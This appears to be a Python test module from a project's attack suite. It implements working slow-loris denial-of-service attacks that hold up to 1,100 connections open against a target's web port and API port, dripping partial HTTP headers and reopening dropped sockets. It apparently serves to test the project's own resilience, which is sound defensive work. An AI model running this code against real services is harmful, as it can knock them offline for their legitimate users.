"""Connections that never say what they want.

Must not need anything that a stranger does not have.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import time
from urllib.parse import urlsplit

from federation.runtime.addresses import parse_address
from tests.attack.attack import GOALS, Attack
from tests.attack.target import Target

CONNECTIONS = 1_100
HELD_SECONDS = 15.0
DRIP_SECONDS = 1.0
CONNECT_SECONDS = 5.0
RECEIVE_BYTES = 65_536


def slow_loris_on_the_web_port(target: Target, force: float) -> None:
    address = parse_address(urlsplit(target.web).netloc)
    drip(address.host, address.port, b"GET /readyz HTTP/1.1\r\n", b"x: y\r\n", force)


def slow_loris_on_the_api_port(target: Target, force: float) -> None:
    address = parse_address(target.endpoint)
    drip(address.host, address.port, b"PRI * HTTP/2", b"", force)


def drip(host: str, port: int, opening: bytes, drop: bytes, force: float) -> None:
    """Holds connections open by saying a little now and then; the lost ones are made anew."""
    wanted = int(CONNECTIONS * force)
    until = time.monotonic() + HELD_SECONDS * force
    held: list[socket.socket] = []
    with selectors.DefaultSelector() as selector:
        try:
            while time.monotonic() < until:
                while len(held) < wanted and time.monotonic() < until:
                    try:
                        made = socket.create_connection((host, port), CONNECT_SECONDS)
                        made.sendall(opening)
                    except OSError:
                        break
                    made.setblocking(False)
                    selector.register(made, selectors.EVENT_READ)
                    held.append(made)
                for key, _ in selector.select(0):
                    assert isinstance(key.fileobj, socket.socket)
                    if _is_over(key.fileobj):
                        _drop(key.fileobj, held, selector)
                for each in [*held]:
                    try:
                        each.sendall(drop)
                    except OSError:
                        _drop(each, held, selector)
                time.sleep(DRIP_SECONDS)
        finally:
            for each in held:
                each.close()


def _is_over(each: socket.socket) -> bool:
    try:
        return not each.recv(RECEIVE_BYTES)
    except OSError:
        return True


def _drop(each: socket.socket, held: list[socket.socket], selector: selectors.BaseSelector) -> None:
    with contextlib.suppress(KeyError):
        selector.unregister(each)
    each.close()
    held.remove(each)


ATTACKS = (
    Attack(name="slow-loris on the web port", run=slow_loris_on_the_web_port, goals=GOALS),
    Attack(name="slow-loris on the API port", run=slow_loris_on_the_api_port, goals=GOALS),
)
